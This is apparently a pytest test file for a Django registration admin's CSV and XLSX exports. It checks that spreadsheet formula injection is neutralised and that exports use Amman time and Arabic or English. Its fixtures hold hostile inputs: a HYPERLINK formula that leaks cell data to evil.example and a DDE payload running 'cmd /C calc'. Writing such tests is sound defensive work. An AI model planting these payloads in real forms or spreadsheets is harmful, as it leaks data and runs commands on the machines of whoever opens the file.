"""The coordinators' exports: no formulas from hostile registrations; Amman time and the coordinator's language."""

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from wagtail.users.models import UserProfile

from programs import rules
from programs.models import Registration

from .conftest import registrant
from .test_registration_views import form_data

pytestmark = pytest.mark.django_db

INDEX = "/admin/programs_registration/"
HOSTILE = {
    "city": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "organisation": "+1+2",
    "job_title": "-2+3",
}


@pytest.fixture
def hostile_registrations(client, course):
    # Typed into the public form, as an attacker would...
    assert client.post(course.url, form_data(**HOSTILE)).status_code == 302
    dde = "@SUM(1+1)*cmd|' /C calc'!A0"
    assert client.post(course.url, form_data(email="at@example.org", city=dde)).status_code == 302
    # ...and what the form's trimming cannot bring in, but an older row or another path might hold.
    row = Registration.objects.get(email="at@example.org")
    Registration.objects.filter(pk=row.pk).update(organisation="\t=1+2", job_title="\r=1+2")
    return course


def _csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_neutralises_every_cell_that_a_spreadsheet_would_run(coordinator_client, hostile_registrations):
    rows = _csv_rows(coordinator_client.get(INDEX + "?export=csv"))

    cells = [value for row in rows for value in row.values()]
    assert "'" + HOSTILE["city"] in cells
    assert "'+1+2" in cells and "'-2+3" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'\t=1+2" in cells and "'\r=1+2" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_export_keeps_harmless_cells_as_they_were(coordinator_client, hostile_registrations):
    rows = _csv_rows(coordinator_client.get(INDEX + "?export=csv"))

    cells = [value for row in rows for value in row.values()]
    assert "Layla Ahmad" in cells and "layla@example.org" in cells and "ليلى أحمد" in cells


def test_xlsx_export_keeps_text_as_text_and_its_other_types(coordinator_client, hostile_registrations):
    response = coordinator_client.get(INDEX + "?export=xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert HOSTILE["city"] in texts and "+1+2" in texts
    assert any(cell.value in (0, 1) and cell.data_type == "n" for cell in cells)  # "attended", a number
    assert any(isinstance(cell.value, datetime) for cell in cells)


@pytest.fixture
def attended_registration(course):
    registration = rules.register(course, registrant(), "ar").registration
    Registration.objects.filter(pk=registration.pk).update(
        attended=True, created_at=datetime(2026, 6, 1, 9, 30, tzinfo=UTC)
    )
    rules.register(course, registrant(email="absent@example.org"), "en")
    return registration


def test_csv_export_is_in_amman_time_and_the_coordinators_language(coordinator_client, attended_registration):
    rows = _csv_rows(coordinator_client.get(INDEX + "?export=csv"))

    assert "تاريخ التسجيل (بتوقيت عمّان)" in rows[0]
    cells = [value for row in rows for value in row.values()]
    assert "2026-06-01 12:30" in cells  # 09:30 UTC is 12:30 in Amman
    assert "نعم" in cells and "لا" in cells
    assert "مؤكد" in cells and "العربية" in cells and "English" in cells
    assert not {"True", "False", "confirmed", "ar", "en"} & set(cells)


def test_xlsx_export_in_arabic_runs_right_to_left_with_typed_amman_times(coordinator_client, attended_registration):
    response = coordinator_client.get(INDEX + "?export=xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.sheet_view.rightToLeft is True
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert datetime(2026, 6, 1, 12, 30) in [cell.value for cell in cells]
    attended = [cell for cell in cells if cell.number_format.startswith('"نعم"')]
    assert sorted(cell.value for cell in attended) == [0, 1]  # a number that sums, shown as نعم or لا


def test_xlsx_export_in_english_runs_left_to_right_in_english(
    coordinator_client, attended_registration, django_user_model
):
    profile = UserProfile.get_for_user(django_user_model.objects.get(username="coordinator"))
    profile.preferred_language = "en"
    profile.save()

    response = coordinator_client.get(INDEX + "?export=xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert not sheet.sheet_view.rightToLeft
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "Confirmed" in values and "registered at (Amman time)" in values
    assert any(cell.number_format == '"Yes";"Yes";"No"' for row in sheet.iter_rows(min_row=2) for cell in row)
